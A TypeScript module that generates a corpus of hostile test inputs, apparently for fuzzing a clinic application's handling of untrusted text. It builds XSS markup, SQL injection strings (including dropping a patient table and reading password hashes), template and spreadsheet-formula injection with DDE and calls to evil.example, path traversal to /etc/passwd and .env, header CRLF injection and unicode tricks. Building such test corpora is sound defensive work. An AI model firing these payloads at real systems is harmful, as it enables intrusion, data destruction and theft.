/** What a payload tries to be, once it leaves the text it belongs to. */
export type Attack = 'markup' | 'sql' | 'template' | 'formula' | 'unicode' | 'path' | 'header' | 'sms';

export interface Hostile {
  readonly attack: Attack;
  readonly text: string;
}

/** What a payload would set in a page, or do to a database, if any of it ran. */
export const TRACE = 'hostileTrace';

const run = `window.${TRACE}=1`;

function product(...parts: readonly (readonly string[])[]): string[] {
  return parts.reduce<string[]>((texts, part) => texts.flatMap((text) => part.map((one) => text + one)), ['']);
}

/** Upper and lower case by turns: filters that look for one spelling miss it, parsers of HTML do not. */
function mixed(text: string): string {
  return [...text].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

const elements = [
  'img',
  'svg',
  'iframe',
  'body',
  'details',
  'input',
  'video',
  'audio',
  'object',
  'embed',
  'math',
  'style',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter'];
const breakouts = ['', '">', "'>", '--></textarea></title>', '</script>', ']]>', '`>'];
const gaps = [' ', '/', '\t', '\n'];

function markup(): string[] {
  const tags = elements.flatMap((name) => [name, mixed(name)]);
  const armed = product(breakouts, ['<'], tags, gaps, ['src=x '], handlers.slice(0, 3), ['='], [run, `"${run}"`]);
  const scripts = product(
    breakouts,
    ['<script>', '<SCRIPT >', '<scr<script>ipt>', '<script\u0000>'],
    [run],
    ['</script>'],
  );
  const addresses = product(
    ['<a href="', '<form action="', '<iframe src="', '<base href="', '<object data="', ''],
    ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', '&#106;avascript:'],
    [run, `<script>${run}</script>`],
    ['">x</a>', ''],
  );
  const others = product(['<svg><animate ', '<svg><set ', '<math><mtext ', '<p '], handlers, [`=${run}>`]);
  return [...armed, ...scripts, ...addresses, ...others];
}

function sql(): string[] {
  const ends = ["'", "''", '"', "')", "';", '\\', '$$', "\\'", "E'"];
  const acts = [
    ' OR 1=1',
    ' UNION SELECT password_hash FROM staff',
    '; DROP TABLE patient',
    '; SELECT pg_sleep(10)',
    "; SET app.departments='{*}'",
    '; RESET ROLE',
  ];
  return product(ends, acts, ['', '--', ' -- ', '/*', '#', ';']);
}

function template(): string[] {
  const inner = [
    'constructor',
    '__proto__',
    'this',
    '@root',
    'patient.phone',
    'lookup . "x"',
    'log patient',
    '#each this',
    '> x',
    '*n',
    '7*7',
  ];
  const braces = product(['{{', '{{{', '${', '<%=', '#{', '{%', '[[${'], inner, ['}}', '}}}', '}', '%>', '%}', '}]]']);
  const cel = ['true || ', 'size(patient) > 0 ? ', 'patient.', '"" + '].flatMap((one) =>
    product([one], inner.slice(0, 5)),
  );
  return [...braces, ...cel];
}

function formula(): string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0000=', '＝', '"=', "'="];
  const acts = [
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    '1+1',
    'SUM(1;1)',
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd")',
  ];
  return product(starts, acts, ['', '"', ',', ';']);
}

function unicode(): string[] {
  const bidi = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2069', '\u200f', '\u061c'];
  const hidden = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u{e0041}', '\ufe0f'];
  const broken = [
    '\ud800',
    '\udc00',
    'a\ud83d',
    '\u0000',
    '\u0001',
    '\u001b[31m',
    '\u0085',
    '\u2028',
    '\u2029',
    '\ufffe',
    '\uffff',
  ];
  const long = [
    '👩‍👩‍👧‍👦'.repeat(60),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(30),
    `a${'\u0300'.repeat(200)}`,
    '﷽'.repeat(50),
    '\u0e49'.repeat(150),
    'W'.repeat(190),
  ];
  return [...product([...bidi, ...hidden, ...broken], ['Анна', 'gpj.exe', '<b>', '']), ...long];
}

function path(): string[] {
  const up = ['../', '..\\', '%2e%2e%2f', '..%c0%af', '....//', '/', 'C:\\', '\\\\evil\\share\\', 'file:///'];
  const targets = [
    'etc/passwd',
    'windows/win.ini',
    '.env',
    'app.js',
    'CON',
    'x.svg',
    'x.html',
    'x.pdf\u0000.html',
    'x.pdf;.html',
  ];
  return product(up, up.slice(0, 3), targets);
}

function header(): string[] {
  const ends = ['\r\n', '\n', '\r', '%0d%0a', '\u0085', '\u2028', '\r\n '];
  const lines = [
    'Bcc: all@clinic.example',
    'Set-Cookie: a=b',
    'Location: http://evil.example',
    'Content-Type: text/html',
    '\r\n<script>',
  ];
  return product(['Anna', ''], ends, lines);
}

function sms(): string[] {
  return product(
    ['\u0010', '\u0012', '\u001b', '\u000c', '@\u0000', '~^{}[]\\|€', '\u0005\u0000\u0003'],
    ['', 'STOP', 'СТОП'],
    ['', '\u0000', '\u0004'],
  );
}

const rules: Readonly<Record<Attack, () => string[]>> = { markup, sql, template, formula, unicode, path, header, sms };

/** Every payload once, always the same ones in the same order. */
export function hostileTexts(): Hostile[] {
  const seen = new Set<string>();
  const all: Hostile[] = [];
  for (const attack of Object.keys(rules) as Attack[]) {
    for (const text of rules[attack]()) {
      if (seen.has(text)) continue;
      seen.add(text);
      all.push({ attack, text });
    }
  }
  return all;
}

/** About `count` of them, of every kind alike. */
export function sampled(all: readonly Hostile[], count: number): Hostile[] {
  const kinds = Object.keys(rules) as Attack[];
  return kinds.flatMap((kind) => {
    const mine = all.filter(({ attack }) => attack === kind);
    const step = Math.max(1, Math.floor(mine.length / (count / kinds.length)));
    return mine.filter((_, index) => index % step === 0);
  });
}
